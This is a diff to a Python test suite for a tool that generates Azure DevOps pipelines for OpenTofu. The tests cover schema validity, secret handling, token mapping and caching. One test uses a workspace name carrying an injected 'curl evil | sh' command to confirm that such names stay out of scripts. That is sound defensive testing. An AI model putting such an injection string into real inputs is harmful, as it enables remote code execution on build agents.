@@ -6,6 +6,7 @@ import functools
 import itertools
 import json
 import re
+import subprocess
 from pathlib import Path
 from typing import Any
 
@@ -25,7 +26,9 @@ from tofuflow.ci._pipelines import (
 from tofuflow.cli._pipeline_cmd import pipeline
 from tofuflow.tofu._install import DEFAULT_VERSION
 
-SCHEMA = Path(__file__).parents[3] / "shared" / "schemas" / "azure-pipelines-service-schema.json"
+REPO = Path(__file__).resolve().parents[2]
+# Vendored (MIT, microsoft/azure-pipelines-vscode): see the .LICENSE file beside it.
+SCHEMA = REPO / "tests" / "fixtures" / "schemas" / "azure-pipelines-service-schema.json"
 
 
 @functools.cache
@@ -33,7 +36,7 @@ def _validator() -> Draft7Validator:
     if not SCHEMA.is_file():
         pytest.fail(
             f"the Azure Pipelines schema is missing: expected {SCHEMA} "
-            "(../shared/schemas beside the repository)"
+            "(vendored in the repository: restore it from git)"
         )
     schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
     Draft7Validator.check_schema(schema)
@@ -41,6 +44,8 @@ def _validator() -> Draft7Validator:
 
 
 def _validate(name: str, text: str) -> Any:
+    """Schema-valid and within Azure Pipelines' YAML subset (which the schema cannot see)."""
+    assert not _unsupported_yaml(text), f"{name}: {_unsupported_yaml(text)}"
     document = yaml.safe_load(text)
     errors = sorted(_validator().iter_errors(document), key=lambda e: list(e.absolute_path))
     messages = []
@@ -54,6 +59,7 @@ def _validate(name: str, text: str) -> Any:
     return document
 
 
+SERVER = "https://tofuflow.example.com"
 WORKSPACE_SETS = {"one": ["app/prod"], "many": ["app/dev", "app/prod", "net-core"]}
 POOLS = {"vmImage": AgentPool("ubuntu-latest"), "name": AgentPool("Self Hosted", "name")}
 COMBINATIONS = list(itertools.product([False, True], WORKSPACE_SETS, POOLS, ["drift", "no-drift"]))
@@ -62,6 +68,7 @@ COMBINATIONS = list(itertools.product([False, True], WORKSPACE_SETS, POOLS, ["dr
 def _options(auto: bool, workspaces: str, pool: str, drift: str) -> PipelineOptions:
     return PipelineOptions(
         workspaces=WORKSPACE_SETS[workspaces],
+        server_url=SERVER,
         plan_service_connection="sc-plan",
         apply_service_connection="sc-apply",
         environment="prod",
@@ -81,6 +88,23 @@ def generated(request: pytest.FixtureRequest) -> tuple[PipelineOptions, dict[str
     options = _options(*request.param)
     files = azure_devops_pipeline(options)
     return options, {name: _validate(name, text) for name, text in files.items()}
+
+
+def _script(step: dict[str, Any]) -> str:
+    """A step's script: a bash step's, or an AzureCLI@2 task's inline script."""
+    return str(step.get("bash") or step.get("inputs", {}).get("inlineScript") or "")
+
+
+def _step(node: Any, command: str) -> dict[str, Any]:
+    """The one step (in ``node`` or a list of steps) whose script runs ``command``."""
+    steps = node if isinstance(node, list) else _steps(node)
+    (step,) = [s for s in steps if command in _script(s)]
+    return step
+
+
+def _variables(stage: dict[str, Any]) -> dict[str, str]:
+    """A stage's variables by name (the list form, which can also hold groups)."""
+    return {v["name"]: v["value"] for v in stage.get("variables", []) if "name" in v}
 
 
 def _steps(node: Any) -> list[dict[str, Any]]:
@@ -105,6 +129,38 @@ def test_every_file_validates_against_the_schema(
     assert set(documents) == expected
 
 
+def _unsupported_yaml(text: str) -> list[str]:
+    """What Azure Pipelines' YAML subset refuses ("Anchors are not currently supported"):
+    anchors, aliases and merge keys, read from the event stream (a loaded document hides
+    them: an alias loads as the same object)."""
+    found = []
+    for event in yaml.parse(text):
+        mark = f"line {event.start_mark.line + 1}"
+        if isinstance(event, yaml.AliasEvent):
+            found.append(f"{mark}: alias *{event.anchor}")
+        elif isinstance(event, yaml.NodeEvent) and event.anchor is not None:
+            found.append(f"{mark}: anchor &{event.anchor}")
+        if isinstance(event, yaml.ScalarEvent) and event.value == "<<" and event.implicit[0]:
+            found.append(f"{mark}: merge key <<")
+    return found
+
+
+@pytest.mark.parametrize(
+    "combination", COMBINATIONS, ids=[f"auto={a}-{w}-{p}-{d}" for a, w, p, d in COMBINATIONS]
+)
+def test_no_anchors_aliases_or_merge_keys(combination: tuple[bool, str, str, str]) -> None:
+    for name, text in azure_devops_pipeline(_options(*combination)).items():
+        assert not _unsupported_yaml(text), f"{name}: Azure Pipelines refuses " + ", ".join(
+            _unsupported_yaml(text)
+        )
+
+
+def test_the_anchor_check_catches_them() -> None:
+    assert _unsupported_yaml("a: &x {b: 1}\nc: *x\nd:\n  <<: *x\n") == [
+        "line 1: anchor &x", "line 2: alias *x", "line 4: merge key <<", "line 4: alias *x",
+    ]  # fmt: skip
+
+
 def test_main_includes_the_template_per_workspace(
     generated: tuple[PipelineOptions, dict[str, Any]],
 ) -> None:
@@ -127,21 +183,23 @@ def test_main_includes_the_template_per_workspace(
 def test_plan_stage(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
     _, documents = generated
     plan = documents[TEMPLATE_FILE]["stages"][0]
-    assert plan["variables"] == {
-        "TOFUFLOW_PLAN_SERVICE_CONNECTION": "${{ parameters.planServiceConnection }}"
-    }
+    assert _variables(plan)["TOFUFLOW_CACHE_DIR"] == "$(Pipeline.Workspace)/.tofuflow-cache"
     (job,) = plan["jobs"]
     steps = job["steps"]
     assert steps[0]["checkout"] == "self"
     assert steps[1]["task"] == "UsePythonVersion@0"
-    assert "pip install" in steps[2]["bash"]
-    assert steps[3]["bash"] == 'tofuflow install "$OPENTOFU_VERSION"'
+    assert "pip install" in _script(_step(job, "pip install"))
+    assert _script(_step(job, "tofuflow install")) == 'tofuflow install "$OPENTOFU_VERSION"'
     (plan_step,) = [s for s in steps if s.get("name") == "plan"]
-    assert 'tofuflow plan "$TOFUFLOW_WORKSPACE"' in plan_step["bash"]
+    assert 'tofuflow plan "$TOFUFLOW_WORKSPACE"' in _script(plan_step)
     assert plan_step["env"]["TOFUFLOW_WORKSPACE"] == "${{ parameters.workspace }}"
     # The artifact: the checkout without .terraform/, published as a pipeline artifact.
     copy = next(s for s in steps if s.get("task") == "CopyFiles@2")
-    assert "!**/.terraform/**" in copy["inputs"]["Contents"].splitlines()
+    contents = copy["inputs"]["Contents"].splitlines()
+    assert "!**/.terraform/**" in contents
+    # The saved plan and any local state hold secrets in clear: the apply stage gets the
+    # plan from the control plane, so the artifact carries neither.
+    assert {"!**/*.tfplan", "!**/*.tfstate", "!**/*.tfstate.*"} <= set(contents)
     publish = next(s for s in steps if s.get("task") == "PublishPipelineArtifact@1")
     assert publish["inputs"]["targetPath"] == copy["inputs"]["TargetFolder"]
     assert steps.index(copy) < steps.index(publish)
@@ -158,7 +216,7 @@ def test_apply_stages_are_deployment_jobs_on_environments(
     publish = next(s for s in _steps(template) if s.get("task") == "PublishPipelineArtifact@1")
     for stage in applies:
         assert stage["dependsOn"] == plan_id
-        assert "TOFUFLOW_APPLY_SERVICE_CONNECTION" in stage["variables"]
+        assert "TOFUFLOW_CACHE_DIR" in _variables(stage)
         assert "changesPresent'], 'true')" in stage["condition"]
         assert "Build.SourceBranch" in stage["condition"]
         (job,) = stage["jobs"]
@@ -172,9 +230,10 @@ def test_apply_stages_are_deployment_jobs_on_environments(
             "artifact": publish["inputs"]["artifact"],
             "displayName": "Download the plan artifact",
         }
-        (apply_step,) = [s for s in steps if "tofuflow apply" in s.get("bash", "")]
+        apply_step = _step(steps, "tofuflow apply")
         assert apply_step["env"]["TOFUFLOW_RUN_ID"] == "$(runId)"
-        assert apply_step["workingDirectory"].endswith(publish["inputs"]["artifact"])
+        directory = apply_step["inputs"]["workingDirectory"]
+        assert directory.endswith(publish["inputs"]["artifact"])
     gated = applies[0]
     assert gated["jobs"][0]["environment"] == "${{ parameters.environment }}"
     if options.auto_apply_routine:
@@ -197,7 +256,7 @@ def test_access_token_mapped_into_every_tofuflow_step(
     checked = 0
     for document in documents.values():
         for step in _steps(document):
-            script = step.get("bash", "")
+            script = _script(step)
             if re.search(r"tofuflow (plan|apply)", script):
                 assert step["env"]["SYSTEM_ACCESSTOKEN"] == "$(System.AccessToken)"
                 checked += 1
@@ -214,9 +273,9 @@ def test_no_secrets_or_global_variables(
         assert not re.search(r"(?i)(password|client_secret|secret:|ARM_CLIENT_SECRET)", text)
         # Every $(System.AccessToken) use is an env mapping, never inline in a script.
         for step in _steps(document):
-            for key in ("bash", "script", "powershell", "pwsh"):
-                assert "System.AccessToken" not in step.get(key, "")
-                assert "${{" not in step.get(key, ""), "values reach scripts via env only"
+            for script in (*(step.get(k, "") for k in ("bash", "script", "pwsh")), _script(step)):
+                assert "System.AccessToken" not in script and "TOKEN)" not in script
+                assert "${{" not in script, "values reach scripts via env only"
 
 
 def test_pinned_versions(generated: tuple[PipelineOptions, dict[str, Any]]) -> None:
@@ -225,11 +284,9 @@ def test_pinned_versions(generated: tuple[PipelineOptions, dict[str, Any]]) -> N
     params = {p["name"]: p for p in documents[TEMPLATE_FILE]["parameters"]}
     assert params["opentofuVersion"]["default"] == DEFAULT_VERSION
     if DRIFT_FILE in documents:
-        install = next(
-            s for s in _steps(documents[DRIFT_FILE]) if "tofuflow install" in s.get("bash", "")
-        )
+        install = next(s for s in _steps(documents[DRIFT_FILE]) if "tofuflow install" in _script(s))
         assert install["env"]["OPENTOFU_VERSION"] == DEFAULT_VERSION
-        pip = next(s for s in _steps(documents[DRIFT_FILE]) if "pip install" in s.get("bash", ""))
+        pip = _step(documents[DRIFT_FILE], "pip install")
         assert pip["env"]["TOFUFLOW_VERSION"] == options.tofuflow_version
 
 
@@ -243,13 +300,13 @@ def test_drift_pipeline(generated: tuple[PipelineOptions, dict[str, Any]]) -> No
     assert drift["schedules"][0]["cron"] == "0 3 * * *"
     assert drift["schedules"][0]["branches"] == {"include": ["main"]}
     (stage,) = drift["stages"]
-    assert stage["variables"] == {"TOFUFLOW_PLAN_SERVICE_CONNECTION": "sc-plan"}
+    assert "TOFUFLOW_CACHE_DIR" in _variables(stage)
     assert stage["jobs"][0]["pool"] == options.pool.to_yaml()
-    (check,) = [s for s in _steps(drift) if "tofuflow drift" in s.get("bash", "")]
+    check = _step(drift, "tofuflow drift")
     # One `tofuflow drift` for every workspace, the names through the environment only.
     assert check["env"]["TOFUFLOW_WORKSPACES"].split("\n") == options.workspaces
     assert check["env"]["SYSTEM_ACCESSTOKEN"] == "$(System.AccessToken)"
-    script = check["bash"]
+    script = _script(check)
     assert 'tofuflow drift "${workspaces[@]}" --format markdown --output "$report"' in script
     assert "##vso[task.uploadsummary]$report" in script
     # Exit 2 (drift) tags the build and fails the job; 1 (an error) fails it too.
@@ -261,19 +318,20 @@ def test_drift_pipeline(generated: tuple[PipelineOptions, dict[str, Any]]) -> No
 
 
 def test_files_start_with_a_generated_header() -> None:
-    for text in azure_devops_pipeline(PipelineOptions(workspaces=["w"])).values():
+    files = azure_devops_pipeline(PipelineOptions(workspaces=["w"], server_url=SERVER))
+    for text in files.values():
         assert text.startswith("# Generated by `tofuflow pipeline init azure-devops`")
 
 
 def test_awkward_workspace_names_stay_out_of_scripts() -> None:
     evil = 'x"; curl evil | sh; echo "'
-    files = azure_devops_pipeline(PipelineOptions(workspaces=[evil, "b"]))
+    files = azure_devops_pipeline(PipelineOptions(workspaces=[evil, "b"], server_url=SERVER))
     main = _validate(MAIN_FILE, files[MAIN_FILE])
     assert main["stages"][0]["parameters"]["workspace"] == evil
     assert re.fullmatch(r"[A-Za-z0-9_]+", main["stages"][0]["parameters"]["stageId"])
     drift = yaml.safe_load(files[DRIFT_FILE])
     for step in _steps(drift):
-        assert evil not in step.get("bash", "")
+        assert evil not in _script(step)
 
 
 @pytest.mark.parametrize(
@@ -296,11 +354,15 @@ def test_agent_pool_parse(text: str, expected: dict[str, str]) -> None:
         {"workspaces": ["a-b", "a_b"]},
         {"workspaces": ["a"], "drift_cron": "every day"},
         {"workspaces": ["a"], "environment": " "},
+        {"workspaces": ["a"], "server_url": ""},
+        {"workspaces": ["a"], "server_url": "tofuflow.example.com"},
+        {"workspaces": ["a"], "server_url": "https://user:pw@tofuflow.example.com"},
+        {"workspaces": ["a"], "server_url": SERVER, "variable_group": " "},
     ],
 )
 def test_invalid_options(kwargs: dict[str, Any]) -> None:
     with pytest.raises(ValueError):  # noqa: PT011 - each case has its own message
-        PipelineOptions(**kwargs)
+        PipelineOptions(**{"server_url": SERVER, **kwargs})
 
 
 # -- the CLI ----------------------------------------------------------------------------
@@ -310,7 +372,7 @@ def _init(runner: CliRunner, out: Path, *extra: str) -> Any:
     return runner.invoke(
         pipeline,
         ["init", "azure-devops", "--workspace", "app/dev", "--workspace", "app/prod",
-         "--output-dir", str(out), *extra],
+         "--server-url", SERVER, "--output-dir", str(out), *extra],
     )  # fmt: skip
 
 
@@ -332,6 +394,35 @@ def test_cli_writes_valid_files_and_next_steps(tmp_path: Path) -> None:
     assert "'sc-plan'" in result.output
     assert "Approvals" in result.output
     assert "SYSTEM_ACCESSTOKEN: $(System.AccessToken)" in result.output
+    # How to give each stage its control-plane identity, and what to authorize.
+    assert "TOFUFLOW_PLAN_TOKEN" in result.output and "TOFUFLOW_APPLY_TOKEN" in result.output
+    assert "Keep this value secret" in result.output
+    assert "Permit" in result.output and "Azure CLI" in result.output
+    assert SERVER in result.output
+
+
+def test_cli_names_the_variable_group_in_the_next_steps(tmp_path: Path) -> None:
+    result = _init(CliRunner(), tmp_path, "--variable-group", "tofuflow-secrets")
+    assert result.exit_code == 0, result.output
+    assert "variable group 'tofuflow-secrets'" in result.output
+    template = yaml.safe_load((tmp_path / TEMPLATE_FILE).read_text(encoding="utf-8"))
+    assert {"group": "tofuflow-secrets"} in template["stages"][0]["variables"]
+
+
+def test_cli_needs_the_control_plane_url(tmp_path: Path) -> None:
+    runner = CliRunner()
+    missing = runner.invoke(
+        pipeline, ["init", "azure-devops", "--workspace", "a", "--output-dir", str(tmp_path)]
+    )
+    assert missing.exit_code == 2 and "--server-url" in missing.output
+    leaky = runner.invoke(
+        pipeline,
+        ["init", "azure-devops", "--workspace", "a", "--output-dir", str(tmp_path),
+         "--server-url", "https://admin:hunter2@tofuflow.example.com"],
+    )  # fmt: skip
+    assert leaky.exit_code == 2 and "credentials" in leaky.output
+    assert "hunter2" not in leaky.output
+    assert not any(tmp_path.iterdir())
 
 
 def test_cli_without_drift(tmp_path: Path) -> None:
@@ -369,3 +460,139 @@ def test_the_schema_check_catches_mistakes() -> None:
     bad = {"stages": [{"stage": "s", "jobs": [{"deployment": "d", "steps": [{"bash": "x"}]}]}]}
     assert list(_validator().iter_errors(bad))
     assert not list(_validator().iter_errors(yaml.safe_load("stages: []")))
+
+
+def test_the_schema_is_vendored_in_the_repository_with_its_license() -> None:
+    """A clone of the repository alone runs the suite: the schema is not read from outside."""
+    assert SCHEMA.resolve().is_relative_to(REPO), f"{SCHEMA} is outside {REPO}"
+    assert SCHEMA.is_file()
+    license_text = SCHEMA.with_name(SCHEMA.stem + ".LICENSE").read_text(encoding="utf-8")
+    assert "MIT License" in license_text and "Microsoft Corporation" in license_text
+    assert "microsoft/azure-pipelines-vscode" in license_text
+
+
+# -- wiring to the control plane, identities and caches ---------------------------------
+
+
+def _stages(documents: dict[str, Any]) -> list[tuple[str, dict[str, Any], list[dict[str, Any]]]]:
+    """(connection the stage should use, stage, its tofuflow step) for every stage."""
+    found = []
+    for stage in documents[TEMPLATE_FILE]["stages"]:
+        kind = "plan" if stage["stage"].startswith("plan_") else "apply"
+        command = "tofuflow plan" if kind == "plan" else "tofuflow apply"
+        connection = f"${{{{ parameters.{kind}ServiceConnection }}}}"
+        found.append((connection, stage, _step(stage, command)))
+    if DRIFT_FILE in documents:
+        (stage,) = documents[DRIFT_FILE]["stages"]
+        found.append(("sc-plan", stage, _step(stage, "tofuflow drift")))
+    return found
+
+
+def test_every_tofuflow_step_points_at_the_control_plane(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    """Without TOFUFLOW_SERVER_URL plan would use a throwaway embedded control plane on
+    the agent and apply could not find the run."""
+    _, documents = generated
+    for stage in documents[MAIN_FILE]["stages"]:
+        assert stage["parameters"]["serverUrl"] == SERVER
+    for _, stage, step in _stages(documents):
+        expected = SERVER if stage["stage"] == "drift" else "${{ parameters.serverUrl }}"
+        assert step["env"]["TOFUFLOW_SERVER_URL"] == expected, stage["stage"]
+
+
+def test_each_stage_maps_only_its_own_token_from_a_secret_variable(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    """Secret variables are not in a step's environment unless mapped with env:."""
+    _, documents = generated
+    for _, stage, step in _stages(documents):
+        env = step["env"]
+        if stage["stage"].startswith("apply"):
+            assert env["TOFUFLOW_APPLY_TOKEN"] == "$(TOFUFLOW_APPLY_TOKEN)"
+            assert "TOFUFLOW_PLAN_TOKEN" not in env
+        else:
+            assert env["TOFUFLOW_PLAN_TOKEN"] == "$(TOFUFLOW_PLAN_TOKEN)"
+            assert "TOFUFLOW_APPLY_TOKEN" not in env
+        assert "TOFUFLOW_TOKEN" not in env, "the all-stages fallback is never mapped"
+
+
+def test_service_connections_are_task_inputs_so_the_pipeline_is_authorized(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    """Azure DevOps asks to authorize a pipeline for the connections its tasks name;
+    a connection that is only a variable value is never authorized, and the OIDC token
+    request for it fails."""
+    _, documents = generated
+    for connection, stage, step in _stages(documents):
+        assert step["task"] == "AzureCLI@2", stage["stage"]
+        assert step["inputs"]["azureSubscription"] == connection, stage["stage"]
+        assert step["inputs"]["scriptType"] == "bash"
+        assert step["inputs"]["scriptLocation"] == "inlineScript"
+
+
+def test_pip_and_opentofu_are_cached_between_runs(
+    generated: tuple[PipelineOptions, dict[str, Any]],
+) -> None:
+    _, documents = generated
+    for _, stage, _ in _stages(documents):
+        steps = _steps(stage)
+        variables = _variables(stage)
+        caches = [s for s in steps if s.get("task") == "Cache@2"]
+        by_path = {c["inputs"]["path"]: c for c in caches}
+        assert set(by_path) == {"$(PIP_CACHE_DIR)", "$(TOFUFLOW_CACHE_DIR)"}, stage["stage"]
+        # Non-secret variables reach every step's environment: pip and `tofuflow install`
+        # write where the cache restores, `tofuflow plan` finds the binary there.
+        assert variables["PIP_CACHE_DIR"].startswith("$(Pipeline.Workspace)/")
+        assert variables["TOFUFLOW_CACHE_DIR"].startswith("$(Pipeline.Workspace)/")
+        pip_key = by_path["$(PIP_CACHE_DIR)"]["inputs"]["key"]
+        tofu_key = by_path["$(TOFUFLOW_CACHE_DIR)"]["inputs"]["key"]
+        assert '"$(Agent.OS)"' in pip_key and '"$(Agent.OS)"' in tofu_key
+        if stage["stage"] == "drift":
+            assert f'"{DEFAULT_VERSION}"' in tofu_key
+        else:
+            assert '"${{ parameters.opentofuVersion }}"' in tofu_key
+            assert '"${{ parameters.tofuflowVersion }}"' in pip_key
+        pip_step, install = _step(stage, "pip install"), _step(stage, "tofuflow install")
+        assert steps.index(by_path["$(PIP_CACHE_DIR)"]) < steps.index(pip_step)
+        assert steps.index(by_path["$(TOFUFLOW_CACHE_DIR)"]) < steps.index(install)
+
+
+def test_a_variable_group_is_referenced_by_every_stage() -> None:
+    options = PipelineOptions(workspaces=["app"], server_url=SERVER, variable_group="tofuflow")
+    files = azure_devops_pipeline(options)
+    documents = {name: _validate(name, text) for name, text in files.items()}
+    stages = [*documents[TEMPLATE_FILE]["stages"], *documents[DRIFT_FILE]["stages"]]
+    for stage in stages:
+        assert {"group": "tofuflow"} in stage["variables"], stage["stage"]
+    without = yaml.safe_load(
+        azure_devops_pipeline(PipelineOptions(workspaces=["app"], server_url=SERVER))[TEMPLATE_FILE]
+    )
+    assert not any("group" in v for st in without["stages"] for v in st["variables"])
+
+
+@pytest.mark.parametrize(
+    ("token", "seen"),
+    [("$(TOFUFLOW_PLAN_TOKEN)", "unset"), ("s3cr3t", "set"), (None, "unset")],
+)
+def test_an_undefined_token_variable_counts_as_unset(
+    tmp_path: Path, token: str | None, seen: str
+) -> None:
+    """Azure Pipelines leaves ``$(NAME)`` as literal text when NAME is not defined: a
+    pipeline relying on OIDC sign-in must not present that text as a token."""
+    template = yaml.safe_load(
+        azure_devops_pipeline(PipelineOptions(workspaces=["app"], server_url=SERVER))[TEMPLATE_FILE]
+    )
+    script = _script(_step(template, "tofuflow plan"))
+    fake = tmp_path / "bin" / "tofuflow"
+    fake.parent.mkdir()
+    fake.write_text('#!/bin/sh\necho "token ${TOFUFLOW_PLAN_TOKEN+set}"\nexit 2\n')
+    fake.chmod(0o755)
+    env = {"PATH": f"{fake.parent}:/usr/bin:/bin", "TOFUFLOW_WORKSPACE": "app"}
+    if token is not None:
+        env["TOFUFLOW_PLAN_TOKEN"] = token
+    done = subprocess.run(
+        ["bash", "-c", script], env=env, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stderr  # exit 2 (changes) is a success
+    assert done.stdout.strip() == ("token set" if seen == "set" else "token")
